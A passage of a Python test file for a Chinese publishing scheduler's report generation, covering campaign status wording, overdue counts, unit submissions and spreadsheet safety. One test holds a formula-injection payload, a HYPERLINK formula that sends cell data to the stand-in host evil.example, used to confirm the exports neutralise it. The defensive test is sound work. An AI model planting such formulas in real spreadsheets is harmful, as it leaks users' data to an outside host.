    from scheduler.publishing.queue import Queue
    from scheduler.publishing.queue_sync import fill
    from scheduler.rendering.payloads import Renderer

    config = project()
    campaign = load_campaign(config)
    plan = make_plan(campaign, load_library(campaign.paths.content, campaign.text_values))
    engine = open_db(campaign.db_url)
    fill(Queue(engine), campaign, plan, Renderer(campaign), campaign.at(dt.date(2027, 8, 20), dt.time(9)).timestamp())
    engine.dispose()
    texts = {}
    for day in (dt.date(2027, 8, 20), dt.date(2027, 9, 5)):
        monkeypatch.setattr(Context, "now", lambda self, day=day: campaign.at(day, dt.time(9)))
        out = tmp_path / f"{day}.docx"
        assert main(["-c", str(config), "report", "--to", "2027-09-04", "-o", str(out)]) == 0
        document = docx.Document(str(out))
        texts[day] = "\n".join(p.text for p in document.paragraphs)
        assert [t.rows[0].cells[0].text for t in document.tables] == []  # no table that could only be empty
        assert "发布 0 条" not in texts[day] and "（一）" not in texts[day]
    before, during = texts[dt.date(2027, 8, 20)], texts[dt.date(2027, 9, 5)]
    assert "将于2027年9月1日至2027年9月4日围绕“" in before and "活动尚未开始，还没有发布宣传内容。" in before
    for line in ("活动尚未开始，还没有发布内容。", "活动尚未开始，还没有发布数据。", "活动尚未开始，还没有已发布的内容。"):
        assert line in before.splitlines()
    assert "活动尚未开始，还没有发布记录，也就没有发布失败、错过或迟发的情况。" in before and "定于" in before
    assert "活动正在进行。截至本报告生成时，还没有发布宣传内容。" in during and "截至本报告生成时，还没有发布数据。" in during


def test_posts_whose_slot_passed_without_going_out_are_counted_and_never_reported_as_nothing_wrong(
    project: Callable[..., Path], tmp_path: Path
) -> None:
    """The bundled campaign queued in August, no daemon ever run, the report made on 9月15日 10:00: the posts
    slotted before then are still 待审核. They did not go out: the report counts them and does not say
    nothing went wrong; the spreadsheet and the json count them too."""
    config = project()
    assert run_qm("queue", "-c", config, env={**os.environ, "QM_NOW": "2027-08-20T10:00+08:00"}).returncode == 0
    made = dt.datetime(2027, 9, 15, 10, tzinfo=ZoneInfo("Asia/Shanghai"))
    with sqlite3.connect(config.parent / ".qm" / "qm.sqlite3") as conn:
        (past,) = conn.execute("SELECT count(*) FROM posts WHERE state = 'planned' AND at < ?", (made.timestamp(),)).fetchone()
        (queued,) = conn.execute("SELECT count(*) FROM posts").fetchone()
    assert 0 < past < queued
    rehearsal = {**os.environ, "QM_NOW": made.isoformat()}
    for fmt in ("docx", "xlsx", "json"):
        done = run_qm("report", "-c", config, "--format", fmt, "-o", tmp_path / f"r.{fmt}", env=rehearsal)
        assert done.returncode == 0 and f"时间已过仍未发出 {past} 条" in done.stderr, done.stderr
    text = "\n".join(p.text for p in docx.Document(str(tmp_path / "r.docx")).paragraphs)
    assert f"发布队列中排期时间已过仍未发出的有 {past} 条，见第五部分。" in text
    assert f"时间已过仍未发出 {past} 条（" in text and f"到本报告生成时仍为待审核 {past} 条，没有发出" in text
    assert "没有发布失败、错过或迟发的情况" not in text and "没有发布失败或错过的情况" not in text
    overview = {r[0]: r[1] for r in openpyxl.load_workbook(tmp_path / "r.xlsx")["概况"].iter_rows(values_only=True)}
    assert overview["时间已过仍未发出（条）"] == past
    assert json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))["overdue"] == past


def test_report_cells_a_spreadsheet_would_run_as_formulas_are_text(simulated: Path, tmp_path: Path) -> None:
    """A failure reason (from a platform) or a statistics note that starts like a formula: the workbook stores it as
    text, the CSV marks it with a leading `'`, so neither Excel nor LibreOffice runs it."""
    hostile = '=HYPERLINK("//evil.example/?"&A1,"点击")'
    db = copy_db(simulated, tmp_path)
    with sqlite3.connect(db) as conn:
        (post_id,) = conn.execute("SELECT id FROM posts ORDER BY id LIMIT 1").fetchone()
        conn.execute("UPDATE posts SET state = 'failed', last_error = ? WHERE id = ?", (hostile, post_id))
        conn.execute("UPDATE stat_days SET state = 'delay', note = ? WHERE source = 'screen:center' AND day = '2016-09-29'", ("@SUM(1)",))
    for fmt in ("xlsx", "csv"):
        done = run_qm("report", "-c", simulated, "--db", db, "--format", fmt, "-o", tmp_path / f"f.{fmt}")
        assert done.returncode == 0, done.stderr
    book = openpyxl.load_workbook(tmp_path / "f.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.value for c in cells if c.data_type == "f"] == []
    assert hostile in [c.value for c in cells] and "@SUM(1)" in [c.value for c in cells]
    rows = list(csv.reader(io.StringIO((tmp_path / "f.csv").read_text(encoding="utf-8-sig"))))
    assert "'" + hostile in [cell for row in rows for cell in row]
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]


def test_an_office_that_used_qm_only_for_the_units_gets_their_part_and_a_report_with_nothing_at_all_is_refused(
    project: Callable[..., Path], tmp_path: Path
) -> None:
    """No queue ever (no qm daemon, no qm queue), the campaign over: part 六 from the submitted files, the other
    parts saying plainly there is no publishing record, and a note on stderr. Without units either: refused."""
    config = project(config=HEIHE)
    plan = config.parent / ".qm" / "submissions" / "爱辉区" / "方案" / "爱辉区方案.txt"
    plan.parent.mkdir(parents=True)
    plan.write_text("爱辉区质量月活动方案", encoding="utf-8")
    when = dt.datetime(2016, 9, 9, 10, tzinfo=ZoneInfo("Asia/Shanghai")).timestamp()
    os.utime(plan, (when, when))
    after = {**os.environ, "QM_NOW": "2016-10-20T10:00+08:00"}
    out = tmp_path / "工作总结.docx"
    done = run_qm("report", "-c", config, "-o", out, env=after)
    assert done.returncode == 0, done.stderr
    assert "没有任何排期内容" in done.stderr and "只有“六、各单位报送情况”" in done.stderr
    text = "\n".join(p.text for p in docx.Document(str(out)).paragraphs)
    assert "六、各单位报送情况" in text and "按时报送 1 个（爱辉区），未报送 5 个" in text
    assert "本期没有发布宣传内容。" in text and "没有发布记录" in text and "在发布队列中：；" not in text
    assert "排期内容共 152 条。其中 152 条安排在2016年9月1日至2016年9月30日，没有进入发布队列" in text
    shutil.rmtree(config.parent / ".qm")  # another campaign's folder: its own database, no units' files
    nothing = run_qm("report", "-c", project(), "-o", tmp_path / "空.docx", env={**os.environ, "QM_NOW": "2027-10-20T10:00+08:00"})
    assert nothing.returncode == 2 and "还没有任何排期内容，工作总结会是空的" in nothing.stderr and "Traceback" not in nothing.stderr
    assert not (tmp_path / "空.docx").exists()


def test_a_title_holding_title_marks_is_nested_with_the_inner_kind(simulated: Path) -> None:
    """《读懂〈质量强国建设纲要〉》, not 《读懂《质量强国建设纲要》》: in the areas' list of titles and the latest post."""
    import dataclasses

    from scheduler.inputs.config import load_campaign
    from scheduler.inputs.content import load_library
    from scheduler.publishing.db import open_db
    from scheduler.report.document import render
    from scheduler.report.figures import gather

    campaign = load_campaign(simulated)
    library = load_library(campaign.paths.content, campaign.text_values).by_id
    engine = open_db(f"sqlite:///{db_of(simulated)}")
    figures = gather(campaign, engine, campaign.start, campaign.end, library)
    engine.dispose()
    first = next(p for p in figures.posts if p in figures.published)
    late = dataclasses.replace(first, title="读懂《质量强国建设纲要》", went_out=first.at + dt.timedelta(hours=2))
    figures = dataclasses.replace(figures, posts=[late if p is first else p for p in figures.posts])
    made = dt.datetime.combine(campaign.end, dt.time(18), tzinfo=campaign.timezone)
    text = "\n".join(p.text for p in docx.Document(io.BytesIO(render(campaign, figures, [], made))).paragraphs)
    assert text.count("《读懂〈质量强国建设纲要〉》") == 2, text  # the area's titles, and the latest post
    assert "《读懂《" not in text and "纲要》》" not in text, text


def test_what_qm_simulate_published_can_be_looked_at_with_the_commands_it_prints(simulated: Path) -> None:
    """qm simulate says where its database is and how to look at it: qm queue, qm history and qm status read it
    with --db as it stands (no refill from the plan, so also on the rehearsal clock, which refuses a refill
    of a database a daemon ran on)."""
    said = (simulated.parent / "simulate.txt").read_text(encoding="utf-8")
    assert "查看模拟发布的结果：" in said
    for command in ("queue", "history", "report"):
        assert re.search(rf"-c \S+config\.yaml {command} --db \S+simulate/qm\.sqlite3", said), said
    rehearsal = {**os.environ, "QM_NOW": "2016-09-20T10:00+08:00"}
    listed = run_qm("queue", "-c", simulated, "--db", db_of(simulated), "--date", "2016-09-08", env=rehearsal)
    assert listed.returncode == 0, listed.stderr
    assert "已发布" in listed.stdout and "待审核" not in listed.stdout
    published = sum(published_by_channel(simulated).values())
    everything = run_qm("queue", "-c", simulated, "--db", db_of(simulated), "--state", "已发布", "--json")
    assert len(json.loads(everything.stdout)) == published
    history = run_qm("history", "-c", simulated, "--db", db_of(simulated), "--limit", "5")
    assert history.returncode == 0 and "已发布" in history.stdout, history.stderr
    status = run_qm("status", "-c", simulated, "--db", db_of(simulated), "--json")
    assert status.returncode == 0 and json.loads(status.stdout)["counts"]["published"] == published, status.stderr
    missing = run_qm("queue", "-c", simulated, "--db", simulated.parent / "没有.sqlite3")
    assert missing.returncode == 2 and "找不到数据库文件" in missing.stderr


def test_the_commands_qm_simulate_prints_hold_a_path_with_a_percent_sign() -> None:
    from scheduler.cli.context import Context
    from scheduler.cli.simulate_cmds import _viewing

    said = _viewing(Context(Path("林口100%/config.yaml")), Path("林口100%/.qm/simulate/qm.sqlite3"))
    assert "-c 林口100%/config.yaml queue --db 林口100%/.qm/simulate/qm.sqlite3（只看某一天" in said, said
